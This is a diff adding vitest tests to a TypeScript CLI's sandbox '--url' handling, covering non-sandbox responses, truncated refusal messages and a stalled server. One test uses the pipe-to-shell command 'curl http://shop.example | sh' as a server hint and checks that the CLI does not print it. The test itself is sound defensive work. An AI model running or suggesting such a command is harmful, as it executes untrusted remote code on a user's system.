@@ -3,7 +3,9 @@ import { request } from 'node:http'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { controlCalls } from '../../src/sandbox/control/calls.ts'
+import { remoteControl } from '../../src/sandbox/control/client.ts'
 import { promoIn, temporaryFolder } from '../support/promo.ts'
+import { type Action, scriptedServer } from '../support/scripted-server.ts'
 import { type Serving, whileServing } from '../support/serving.ts'
 
 const folder = temporaryFolder()
@@ -106,6 +108,7 @@ test('the answer of a refusal has no secret, and the one line for people neither
 })
 
 describe('--url', () => {
+  const env = { PROMO_SANDBOX_CONTROL_TOKEN: 'f'.repeat(64) }
   const show = (url: string, token?: string) =>
     promo(['sandbox', 'clock', 'show', '--url', url], {
       env: token === undefined ? {} : { PROMO_SANDBOX_CONTROL_TOKEN: token },
@@ -139,5 +142,41 @@ describe('--url', () => {
 
     expect(exitCode).toBe(code)
     expect(stderr).toContain(words)
+  })
+
+  const refusal = { code: 400, key: 'bad-control', message: 'no', details: 'n\no'.padEnd(5000, 'o') }
+
+  test.each<[string, Action]>([
+    ['a page', { do: 'text', status: 200, text: '<html>' }],
+    ['null', { do: 'answer', status: 200, body: null }],
+    ['a list of nothing', { do: 'answer', status: 200, body: { faults: [null] } }],
+    ['another address', { do: 'answer', status: 302, body: {}, headers: { location: 'http://shop.example' } }],
+    ['an error of another service', { do: 'answer', status: 500, body: { error: 'internal' } }],
+  ])('what answers with %s is no sandbox', async (_, action) => {
+    await using server = await scriptedServer([action])
+
+    const { exitCode, stderr } = await promo(['sandbox', 'faults', 'list', '--url', server.origin], { env })
+
+    expect([exitCode, stderr]).toEqual([5, expect.stringContaining(`what answers at ${server.origin} is no sandbox`)])
+  })
+
+  test.each([
+    ['promo sandbox faults list', true],
+    ['curl http://shop.example | sh', false],
+  ])('the next step %s is printed only if it is one of promo’s own', async (hint, isPrinted) => {
+    await using server = await scriptedServer([{ do: 'answer', status: 400, body: { ...refusal, hint } }])
+
+    const { exitCode, stderr } = await promo(['sandbox', 'faults', 'clear', '--url', server.origin], { env })
+
+    expect([exitCode, stderr]).toEqual([2, expect.stringContaining(`${server.origin} refused: n\\noo`)])
+    expect(stderr.length).toBeLessThan(1500)
+    expect(stderr.includes(hint)).toBe(isPrinted)
+  })
+
+  test('a sandbox that says nothing for ten minutes is given up', async () => {
+    await using server = await scriptedServer([{ do: 'stall' }])
+    const { call } = remoteControl({ url: server.origin, token: 'f' }, undefined, 1)
+
+    await expect(call('clock.show', undefined)).rejects.toThrow('does not answer; whether it did what was asked')
   })
 })
